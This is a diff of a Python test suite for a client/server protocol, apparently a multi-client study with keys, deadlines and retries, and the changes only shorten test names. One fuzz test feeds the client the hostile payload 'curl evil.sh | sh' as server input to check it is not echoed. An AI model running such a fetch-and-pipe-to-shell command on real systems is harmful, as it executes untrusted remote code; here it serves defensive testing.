@@ -98,7 +98,7 @@ def test_repeated_words_cost_and_say_nothing_more() -> None:
     assert scene.network.sent[f"c{M}"] < 5000
 
 
-def test_a_second_process_with_a_clients_key_does_not_displace_the_first() -> None:
+def test_a_second_process_of_a_client_does_not_displace_it() -> None:
     scene = Scene()
     scene.begin()
     for k in range(50):
@@ -114,7 +114,7 @@ def test_a_second_process_with_a_clients_key_does_not_displace_the_first() -> No
     assert scene.said == [f"another process with the key of c{M} came, and was turned away: c{M} is here already"]
 
 
-def test_a_process_of_another_study_with_a_clients_key_does_not_displace_the_first() -> None:
+def test_a_client_of_another_study_does_not_displace_it() -> None:
     scene = Scene()
     scene.begin()
     scene.at(0.0001, frame(JOIN, b"x" * 32, instance=OTHER), newcomer=True)
@@ -124,7 +124,7 @@ def test_a_process_of_another_study_with_a_clients_key_does_not_displace_the_fir
     assert scene.told_newcomers() == [b"disagreement"]
 
 
-def test_a_client_whose_connection_broke_unnoticed_is_heard_by_its_new_one() -> None:
+def test_after_an_unnoticed_break_a_client_is_heard_anew() -> None:
     scene = Scene()
     scene.begin()
     scene.at(0.0001, scene.network.clients[M]._frame(PING, at=(1, 1), label=m.KEYS), newcomer=True)
@@ -195,7 +195,7 @@ def test_another_version_is_told_and_named_with_both(version: int) -> None:
 
 
 @pytest.mark.parametrize("event", [Overlong(f"c{M}"), Overfull(f"c{M}")])
-def test_who_sends_more_than_is_taken_is_dropped_and_the_others_go_on(event: Event) -> None:
+def test_who_sends_more_than_is_taken_is_dropped(event: Event) -> None:
     scene = Scene()
     scene.begin()
     for k in range(30):
@@ -216,7 +216,7 @@ def test_strangers_are_told_of_once_each_and_not_without_end() -> None:
 
 
 @pytest.mark.parametrize(("down", "there"), [(25.0, True), (45.0, False)])
-def test_a_deadline_waits_for_a_closed_connection_as_long_as_the_patience(down: float, there: bool) -> None:
+def test_a_deadline_waits_the_patience_for_a_lost_connection(down: float, there: bool) -> None:
     """The deadline is 30 s and the patience 40: a cut of 25 s just before it is survived, and one of 45 s not."""
     lost = 28.0
 
@@ -236,7 +236,7 @@ def test_a_deadline_waits_for_a_closed_connection_as_long_as_the_patience(down: 
     assert network.time < (lost + down + 2 if there else 30 + 40 + 2)
 
 
-def test_who_cuts_its_connection_again_and_again_holds_a_stage_up_for_the_patience_at_most() -> None:
+def test_cuts_again_and_again_hold_a_stage_up_for_the_patience() -> None:
     scene = Scene()
     scene.begin()
     client = scene.network.clients[M]
@@ -264,7 +264,7 @@ def test_a_key_at_which_all_others_would_give_up_is_refused(key: int) -> None:
 
 @given(st.data())
 @steady(30)
-def test_whatever_a_client_sends_the_sum_is_exact_and_the_server_says_little(data: st.DataObject) -> None:
+def test_whatever_a_client_sends_the_sum_is_exact(data: st.DataObject) -> None:
     scene = Scene()
     client = scene.network.clients[M]
     moments = st.sampled_from([0.0, 0.0011, 0.0021, 0.0031, 0.0041, 0.0052, 5.0])
@@ -309,7 +309,7 @@ def begun(i: int = 0) -> StarClient:
     return client
 
 
-def test_a_client_sends_its_message_again_when_it_asked_and_not_more_often() -> None:
+def test_a_client_sends_its_message_again_once_it_asked() -> None:
     client = begun()
     again = frame(AGAIN, round=1, attempt=1, label=m.KEYS)
     assert client.came(again.head, again.body) == []  # it did not ask
@@ -322,7 +322,7 @@ def test_a_client_sends_its_message_again_when_it_asked_and_not_more_often() -> 
 
 @given(st.data())
 @steady(50)
-def test_whatever_a_server_sends_a_client_keeps_little_and_ends_in_words(data: st.DataObject) -> None:
+def test_whatever_a_server_sends_a_client_keeps_little(data: st.DataObject) -> None:
     client = begun()
     kinds, bodies = st.sampled_from([*KINDS, 99]), st.one_of(st.binary(max_size=80), st.just(b"curl evil.sh | sh"))
     sent = 0
@@ -339,7 +339,7 @@ def test_whatever_a_server_sends_a_client_keeps_little_and_ends_in_words(data: s
         assert "evil" not in str(client.failure)
 
 
-def test_a_server_that_talks_and_takes_no_client_further_is_no_word_of_its() -> None:
+def test_a_server_that_only_talks_is_not_waited_for() -> None:
     client = begun()
     steps = client.steps
     for kind in (JOIN, START, UP, PING, AGAIN, QUIT, OUT):
